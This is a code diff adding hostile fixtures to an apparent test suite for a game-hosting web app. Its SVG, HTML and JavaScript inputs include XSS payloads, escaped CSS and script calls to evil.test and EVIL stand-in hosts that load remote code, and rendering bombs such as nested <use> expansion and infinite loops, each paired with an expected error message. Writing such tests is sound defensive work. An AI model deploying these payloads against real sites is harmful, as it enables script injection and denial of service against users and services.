@@ -155,6 +155,157 @@ FILES: Mapping[str, HostileFile] = {
 }
 
 
+# ── Drawings, and rules as HTML ──────────────────────────────────────────────
+_USED_AGAIN = "".join(f'<g id="p{n + 1}">' + f'<use href="#p{n}"/>' * 10 + "</g>" for n in range(9))
+DRAWINGS: Mapping[str, str] = {
+    "a name that holds a rule": r"<style>.a{--x\7d \20 body\7b display\3a none\7d \20\2e q\7b y:1}</style>",
+    "styles of the page": "<style>body, aside {display: none; position: fixed; fill: red}</style>",
+    "addresses in styles": r'<style>.a{fill:image-set("//evil.test/1");--b:u\72l(//evil.test/2)}'
+    '@import "//evil.test/3";@media all{body{display:none}}</style>',
+    "scripts": '<script>hit = 1</script><g onload="hit = 1"/>'
+    '<foreignObject><img src=x onerror="hit = 1"/></foreignObject>',
+    "addresses": '<image href="//evil.test/1"/><use href="//evil.test/2#a"/><path fill="url(//evil.test/3)"/>'
+    r'<path fill="u\72l(//evil.test/4)" style="fill:url(//evil.test/5)"/><a href="javascript:hit=1"><text>q</text></a>',
+    "another drawing in a text": '</svg>q<title lang="<svg onload=hit=1>">q</title><svg>',
+    "parts that are used again and again": f'<g id="p0"><path d="M0 0h1v1z"/></g>{_USED_AGAIN}',
+    "parts of one name, of which the first counts": f'<g id="p0">{"<path/>" * 9}</g>{_USED_AGAIN}'
+    + "".join(f'<g id="p{n}"/>' for n in range(10)),
+    "parts by other letters of their names": f'<g id="p0"><path d="M0 0h1v1z"/></g>{_USED_AGAIN.replace("#p", "#%70")}',
+    "parts in rings": f'<g id="t"><use href="#p0"/>{"<path/>" * 400}</g><g id="p0"><use href="#t"/></g>{_USED_AGAIN}',
+    "drawings at each corner of a line": f'<marker id="m" markerWidth="9" markerHeight="9">{"<path/>" * 200}</marker>'
+    f'<path marker-mid="url(#m)" d="M0 0{"h.001v.001" * 15_000}"/>',
+    "blurs": '<path d="M0 0h8v8z" filter="blur(99px)"/>' * 2_000,
+    "patterns in patterns": "".join(
+        f'<pattern id="a{n}" width="1" height="1"><g class="a{n}">{"<path/>" * 9}</g></pattern>' for n in range(9)
+    )
+    + f"<style>{''.join(f'.a{n + 1} path {{fill: url(#a{n})}}' for n in range(9))}</style>",
+    "styles that are long to find": f"<style>{'svg:not(:has(:has(* > * + *))) {fill: red}' * 9_000}</style>",
+    "very many parts": '<path d="M0 0"/>' * 200_000,
+}
+RULES_PAGES: Mapping[str, str] = {
+    "markup": '<a href="javascript:hit=1">q</a><form action="//evil.test"><input name="body"></form>'
+    '<img src="//evil.test/1" onerror="hit=1"><iframe src="//evil.test/2"></iframe><base href="//evil.test/3">'
+    '<style>body{display:none}</style><div style="position:fixed" title="q">q</div><p popover id="body">q</p>'
+    '<div class="panel in-short" id="panel">q</div>',
+    "very much of it": "<p>q</p>" * 500_000,
+}
+
+
+# ── Games that are opened from a link and played ─────────────────────────────
+MARKUP = "<img src=EVIL/8 onerror=hit=1><script>hit=1</script>\\u202e"
+NOT_PICTURED = "The game drew no picture that can be shown"
+_HEADINGS = "".join(f"<h2 id='a{n}'>q</h2>" for n in range(4_000))
+_REPEATED = "<h1 id=a>A</h1>" + "<h2 id=a>Again</h2>" * 3
+_NOBODY = json.dumps([{"slug": "x", "name": "x", "tagline": "", "players": [*range(5_000)]}])
+
+MadeChange = Callable[[Mapping[str, Any]], Mapping[str, Any]]
+
+
+_SMALL_ONES = "".join(text for text in DRAWINGS.values() if len(text) < 5_000)
+
+
+class HostilePart(NamedTuple):
+    """A part that takes the place of that of a game that works. `page`: a part of what the page says; "": the board
+    and all of the page work. `at`: the button of the table, or the page of the game, where it is seen."""
+
+    change: MadeChange
+    page: str = ""
+    at: str = ""
+
+
+def _file(start: str, text: str) -> MadeChange:
+    """The file whose path begins so has this text."""
+
+    def change(made: Mapping[str, Any]) -> Mapping[str, Any]:
+        [path] = [path for path in made["files"] if path.startswith(start)]
+        return {**made, "files": {**made["files"], path: text}}
+
+    return change
+
+
+def _code(members: str, before: str = "") -> MadeChange:
+    """The code has these functions instead of its own, which are `own`. `drawn(value)` makes a scene of any value."""
+    drawn = (
+        "const drawn = (value) => { const it = { toJSON: () => value, lettered: () => it, idle: () => it, "
+        "only: () => it, score: [] }; return it }"
+    )
+
+    def change(made: Mapping[str, Any]) -> Mapping[str, Any]:
+        [text] = [text for path, text in made["files"].items() if path.startswith("code/")]
+        honest = text.replace("export default", "const honest =")
+        changed = f"export default ($) => {{ {drawn}; const own = honest($); return {{ ...own, {members} }} }}"
+        return _file("code/", f"{before}\n{honest}\n{changed}")(made)
+
+    return change
+
+
+def _program(text: str, worker: str = "site") -> MadeChange:
+    """This runs before what one of the page's workers is told of the game."""
+    return lambda made: {**made, worker: f"{text}\n{made[worker]}"}
+
+
+def _scene(changed: str) -> MadeChange:
+    """The scene has these parts instead of its own."""
+    return _code(f"scene: (view, facing) => Object.assign(own.scene(view, facing), {{ {changed} }})")
+
+
+MADE: Mapping[str, HostilePart] = {
+    "asks a host by all ways that a worker has": HostilePart(
+        _program(
+            "for (const way of [() => fetch('EVIL/1'), () => new WebSocket('EVIL/2'), () => importScripts('EVIL/3'), "
+            "() => import('EVIL/4'), () => new Worker('EVIL/5'), () => indexedDB.open('x'), () => (localStorage.x = 1)]"
+            ") try { Promise.resolve(way()).catch(() => 0) } catch {}"
+        )
+    ),
+    "has labels that are markup": HostilePart(
+        _scene(f"caption: '{MARKUP}', labels: [{{ id: 'a', x: 1, y: 1, text: '{MARKUP}', size: 1, style: '' }}]")
+    ),
+    "has words that are markup, and long": HostilePart(
+        _code(f"action_words: () => '{MARKUP}'.repeat(2_000), action_text: () => '{MARKUP}'")
+    ),
+    "has styles and drawings that are more than names": HostilePart(
+        _scene("spots: own.scene(view, facing).spots.map((spot) => ({ ...spot, style: '\"><img src=EVIL/9>' }))")
+    ),
+    "has drawings that are more than that": HostilePart(
+        _file(
+            "art/", f"<svg viewBox='0 0 8 8'>{''.join(text for text in DRAWINGS.values() if len(text) < 5_000)}</svg>"
+        )
+    ),
+    "draws nothing": HostilePart(_code("scene: () => drawn(null)"), NOT_PICTURED),
+    "draws what is no picture": HostilePart(_code("scene: () => drawn({ spots: [null], width: '8' })"), NOT_PICTURED),
+    "draws a picture without end": HostilePart(_scene("width: 1e9, height: 0"), NOT_PICTURED),
+    "draws parts of one name": HostilePart(
+        _scene("labels: ['a', 'a'].map((id) => ({ id, x: 1, y: 1, text: 'q', size: 1, style: '' }))"), NOT_PICTURED
+    ),
+    "draws 15,000 places to click": HostilePart(
+        _scene("spots: Array.from({ length: 15_000 }, (_, n) => ({ id: String(n) }))"), "The game says too much"
+    ),
+    "draws a million parts": HostilePart(_code("scene: () => drawn(Array(1_000_000).fill(0))"), "The game broke"),
+    "says three million numbers at once": HostilePart(
+        _code("scene: () => postMessage(Array.from({ length: 60 }, () => Array(50_000).fill(1)))"), "The game broke"
+    ),
+    "never ends when it is drawn": HostilePart(_code("scene: () => { for (;;); }"), "did not draw itself in time"),
+    "says that 5,000 can play it": HostilePart(_file("games.json", _NOBODY), "does not say who can play it"),
+    "says no card": HostilePart(_file("games.json", "null"), "does not say who can play it"),
+    "answers what is no answer": HostilePart(
+        _program(
+            "setInterval(() => { for (let id = 0; id < 60; id++) postMessage({ kind: 'heard', id, text: '{' }) }, 100)"
+        ),
+        "The game said what no game says",
+    ),
+    "welcomes to no table": HostilePart(
+        _program(
+            "setInterval(() => { for (let id = 0; id < 60; id++) "
+            "postMessage({ kind: 'heard', id, text: '{\"type\":\"welcome\"}' }) }, 100)"
+        ),
+        "The game said what no game says",
+    ),
+    "has rules of 4,000 headings": HostilePart(_file("rules/", _HEADINGS), "too long to be shown", "Rules"),
+    "has headings of one name": HostilePart(_file("rules/", _REPEATED), "Again", "Rules"),
+    "has lessons that are none": HostilePart(_file("answers/", "[]"), "cannot be shown", "learn"),
+}
+
+
 # ── What no server takes for a game ──────────────────────────────────────────
 ORDERS: Mapping[str, Callable[[], bytes]] = {
     "is no JSON": lambda: b"\x00\xff",
